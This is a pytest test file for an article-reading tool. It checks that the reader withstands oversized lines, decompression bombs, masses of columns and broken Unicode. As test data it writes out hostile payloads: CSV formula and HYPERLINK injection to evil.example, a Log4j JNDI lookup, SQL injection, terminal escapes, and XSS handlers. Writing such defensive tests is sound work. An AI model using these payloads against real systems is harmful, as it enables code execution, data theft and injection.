"""Input made to do harm, of the kinds that no test of a single format has: sizes, bytes and markup."""

from __future__ import annotations

import csv
import gzip
import io
import json
import sqlite3
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import BinaryIO, cast

import pytest
from hostile_files import MEGABYTE, TEXT, Found, put, read

from tracer.domain import Article, SkippedArticle
from tracer.read import ReadSettings, read_articles


def outline(found: list[Found]) -> list[str]:
    """Ids of articles and reasons of skips, in their order."""
    return [each.id if isinstance(each, Article) else each.reason for each in found]


class Pieces(io.RawIOBase):
    """Standard input that is made while it is read."""

    def __init__(self, pieces: Iterator[bytes]) -> None:
        self._pieces = pieces
        self._rest = b""

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: memoryview) -> int:  # type: ignore[override]
        piece = self._rest or next(self._pieces, b"")
        size = min(len(piece), len(buffer))
        buffer[:size], self._rest = piece[:size], piece[size:]
        return size


def line_of_a_gigabyte(before: str, after: str) -> Iterator[bytes]:
    yield before.encode()
    filling = b"words and " * (MEGABYTE // 10)
    for _ in range(1_100):
        yield filling
    yield after.encode()


LINE_BEFORE = json.dumps({"id": "a", "text": TEXT}) + '\n{"id": "b", "text": "'
LINE_AFTER = '"}\n' + json.dumps({"id": "c", "text": TEXT}) + "\n"


def test_a_line_of_a_gigabyte_on_standard_input() -> None:
    """It is thrown away in pieces; the lines around it are read."""
    stream = cast(BinaryIO, Pieces(line_of_a_gigabyte(LINE_BEFORE, LINE_AFTER)))
    tracemalloc.start()
    found = list(read_articles(["-"], ReadSettings(max_article_chars=100_000), stdin=stream))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert outline(found) == ["a", "the line is longer than 865,536 bytes", "c"]
    assert peak < 10 * MEGABYTE


@pytest.mark.parametrize(
    ("name", "before", "after", "told"),
    [
        ("a.jsonl.gz", LINE_BEFORE, LINE_AFTER, ["a", "the line is longer than 865,536 bytes", "c"]),
        (
            "a.csv.gz",
            f'id,text\na,"{TEXT}"\nb,"',
            f'"\nc,"{TEXT}"\n',
            ["a", "the row is longer than 865,536 bytes", "c"],
        ),
    ],
    ids=["lines", "table"],
)
def test_a_line_of_a_gigabyte_in_a_small_file(
    tmp_path: Path, name: str, before: str, after: str, told: list[str]
) -> None:
    """Some megabytes on the disk, a gigabyte when it is unpacked, some megabytes of memory."""
    first, middle, *_, last = line_of_a_gigabyte(before, after)
    packed = gzip.compress(middle)
    put(tmp_path / name, gzip.compress(first) + packed * 1_100 + gzip.compress(last))
    tracemalloc.start()
    found = read(tmp_path / name, max_article_chars=100_000)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert outline(found) == told
    assert peak < 10 * MEGABYTE


@pytest.mark.parametrize("name", ["a.csv", "a.tsv", "a.jsonl", "a.json"])
def test_a_million_columns(tmp_path: Path, name: str) -> None:
    """The known ones among them are found; the names in a message stay few."""
    count = 1_000_000
    if name.endswith("sv"):
        mark = "\t" if name.endswith(".tsv") else ","
        names = mark.join(f"c{number}" for number in range(count))
        put(tmp_path / name, f'{names}{mark}text{mark}id\n{mark * count}"{TEXT}"{mark}a\n')
        without = f"{names}\n{mark * (count - 1)}\n"
    else:
        row: dict[str, object] = {f"c{number}": 0 for number in range(count)}
        put(tmp_path / name, json.dumps({**row, "text": TEXT, "id": "a"}, separators=(",", ":")))
        without = json.dumps(row, separators=(",", ":"))
    assert outline(read(tmp_path / name)) == ["a"]
    (skip,) = read(put(tmp_path / name, without))
    assert isinstance(skip, SkippedArticle)
    assert "has no column known to hold the text" in skip.reason
    assert len(skip.reason) < 1_000


def test_ten_thousand_columns_of_parquet(tmp_path: Path) -> None:
    """Only those that are used are read."""
    pa = pytest.importorskip("pyarrow")
    from pyarrow import parquet  # noqa: PLC0415 - an extra

    table = pa.table({**{f"c{number}": [number] for number in range(10_000)}, "text": [TEXT], "id": ["a"]})
    parquet.write_table(table, tmp_path / "a.parquet")
    assert outline(read(tmp_path / "a.parquet")) == ["a"]


def test_a_workbook_of_sixteen_thousand_columns(tmp_path: Path) -> None:
    """As many as Excel knows; the first two thousand are looked at."""
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    book.active.append(["text", "id", *(f"c{number}" for number in range(16_382))])
    book.active.append([TEXT, "a", *range(16_382)])
    book.save(tmp_path / "a.xlsx")
    assert outline(read(tmp_path / "a.xlsx")) == ["a"]


BROKEN = {
    "a lone continuation byte": TEXT.encode() + b"\x80 and so on.",
    "an overlong slash": TEXT.encode() + b"\xc0\xaf and so on.",
    "a surrogate in UTF-8": TEXT.encode() + b"\xed\xa0\x80 and so on.",
    "beyond the last character": TEXT.encode() + b"\xf5\x80\x80\x80 and so on.",
    "cut in a character": ("é" * 90 + TEXT).encode() + b"\xe2\x80",
    "half of a pair in UTF-16": b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00\xd8" + TEXT.encode("utf-16-le"),
    "an odd byte behind UTF-16": b"\xff\xfe" + TEXT.encode("utf-16-le") + b"x",
    "a mark and nothing behind it": b"\xff\xfe",
    "UTF-32 beyond the last character": b"\xff\xfe\0\0" + TEXT.encode("utf-32-le") + b"\xff\xff\xff\xff",
    "marks of every kind": b"\xef\xbb\xbf\xff\xfe\xfe\xff" + TEXT.encode(),
}


@pytest.mark.parametrize("damage", BROKEN)
@pytest.mark.parametrize("name", ["a.txt", "a.csv", "a.jsonl", "a.json", "a.html", "a.eml", "a.rss", "a.warc"])
def test_broken_unicode_is_one_article_or_one_skip(tmp_path: Path, damage: str, name: str) -> None:
    """With what had to be replaced as U+FFFD or read in another encoding; what comes out can be written as UTF-8."""
    if name.endswith((".html", ".rss", ".warc")):
        pytest.importorskip("trafilatura")
    data = BROKEN[damage]
    if name == "a.csv":
        data = data[:2] + data[2:].replace(b",", b" ") if data.startswith(b"\xff\xfe") else data.replace(b",", b" ")
        data = (
            (b"\xff\xfe" + "text\n".encode("utf-16-le") + data[2:]) if damage.endswith("UTF-16") else b"text\n" + data
        )
    found = read(put(tmp_path / name, data))
    assert len(found) == 1
    for each in found:
        written = each.text + str(each.warnings) if isinstance(each, Article) else each.reason
        assert written.encode()


@pytest.mark.parametrize("name", ["a.txt", "a.csv", "a.jsonl", "a.json", "a.html", "a.eml"])
def test_zero_bytes_among_the_words_are_no_text(tmp_path: Path, name: str) -> None:
    """Nothing behind them is lost in silence: such a file or record is a skip, or they are no part of the text."""
    if name.endswith(".html"):
        pytest.importorskip("trafilatura")
    text = f"{TEXT}\0 And then it sailed."
    data = {
        "a.csv": f'text\n"{text}"\n',
        "a.jsonl": json.dumps({"text": text}),
        "a.json": json.dumps([{"text": text}]),
        "a.html": f"<html><body><article><p>{text}</p></article></body></html>",
        "a.eml": f"From: a@b.example\nSubject: x\n\n{text}",
    }.get(name, text)
    for each in read(put(tmp_path / name, data)):
        assert isinstance(each, SkippedArticle) or ("\0" not in each.text and "sailed" in each.text)


@pytest.mark.parametrize(
    "text",
    [
        f"\u202e{TEXT}\u202c \u2066\u2067\u2068\u2069",
        f"\x1b[2J\x1b]0;owned\x07{TEXT * 4}\x9b31m",
        f"\ufeff{TEXT}\u200b\u200d\U000e0041",
        f"=cmd|' /C calc'!A0 {TEXT}",
        f'=HYPERLINK("http://evil.example";"{TEXT}")',
        f"{TEXT} <script>alert(1)</script> javascript:alert(1) {{{{7*7}}}} ${{jndi:ldap://evil.example}}",
        f"{TEXT}'; DROP TABLE news; --",
    ],
)
def test_hostile_text_is_kept_as_it_is_and_labels_are_not(tmp_path: Path, text: str) -> None:
    """A text is evidence and nothing more: no reader obeys it. Titles and outlets, which are printed, lose controls."""
    row = {"id": "a", "title": text, "source": text, "text": text}
    sheet = io.StringIO()
    csv.writer(sheet).writerows([list(row), list(row.values())])
    paths = [
        put(tmp_path / "a.csv", sheet.getvalue().removeprefix("\ufeff")),
        put(tmp_path / "a.jsonl", json.dumps(row)),
        tmp_path / "a.sqlite",
    ]
    connection = sqlite3.connect(paths[2])
    connection.execute("CREATE TABLE news (id, title, source, text)")
    connection.execute("INSERT INTO news VALUES (:id, :title, :source, :text)", row)
    connection.commit()
    connection.close()
    for path in paths:
        (found,) = read(path)
        assert isinstance(found, Article)
        assert found.text == text
        for label in (found.title, found.outlet):
            assert label is not None
            assert not {"\x1b", "\x9b", "\x07", "\u202e", "\u2066", "\ufeff"} & set(label)


def test_formulas_of_a_workbook_are_never_worked_out(tmp_path: Path) -> None:
    """Their saved value is read where there is one, and nothing where there is none."""
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.Workbook()
    for row in (["id", "text", "outlet"], ["a", TEXT, "=1+1"], ["b", '=WEBSERVICE("http://127.0.0.1/")', "x"]):
        book.active.append(row)
    book.save(tmp_path / "a.xlsx")
    article, skip = read(tmp_path / "a.xlsx")
    assert isinstance(article, Article)
    assert (article.id, article.outlet) == ("a", None)
    assert isinstance(skip, SkippedArticle)
    assert skip.reason == "has no text"


@pytest.mark.parametrize(
    "part",
    [
        "<p onclick=\"alert('evil')\" onmouseover=evil()>{}</p>",
        "<p>{}<img src=x onerror=\"alert('evil')\"></p>",
        "<p>{}<svg onload=evil()><script>evil()</script></svg></p>",
        "<p>{}</p><iframe srcdoc='<p>evil</p>' src='javascript:evil()'></iframe>",
        "<p>{}</p><object data='evil.swf'><embed src='evil.swf'></object>",
        "<p>{}</p><style>@import 'http://127.0.0.1/evil.css'; p::after {{ content: 'evil' }}</style>",
        "<p>{}</p><meta http-equiv=refresh content='0;url=http://127.0.0.1/evil'>",
        "<p>{}</p><base href='http://127.0.0.1/evil/'><link rel=stylesheet href=evil.css>",
        "<p>{}</p><!--[if IE]><p>evil</p><![endif]--><?php evil() ?>",
    ],
)
@pytest.mark.parametrize("name", ["a.html", "a.eml", "a.rss"])
def test_scripts_and_handlers_leave_no_trace(tmp_path: Path, part: str, name: str) -> None:
    """Nothing is run or fetched, and none of it is part of the text."""
    pytest.importorskip("trafilatura")
    pytest.importorskip("feedparser")
    body = part.format(TEXT)
    page = f"<html><body><article><p>{TEXT} It is so.</p>{body}</article></body></html>"
    data = {
        "a.html": page,
        "a.eml": f"From: a@b.example\nSubject: x\nContent-Type: text/html; charset=utf-8\n\n{page}",
        "a.rss": "<rss version='2.0' xmlns:content='http://purl.org/rss/1.0/modules/content/'><channel><item>"
        f"<content:encoded>{page.replace('&', '&amp;').replace('<', '&lt;')}</content:encoded></item></channel></rss>",
    }[name]
    (found,) = read(put(tmp_path / name, data))
    assert isinstance(found, Article)
    assert TEXT in found.text
    assert "evil" not in found.text
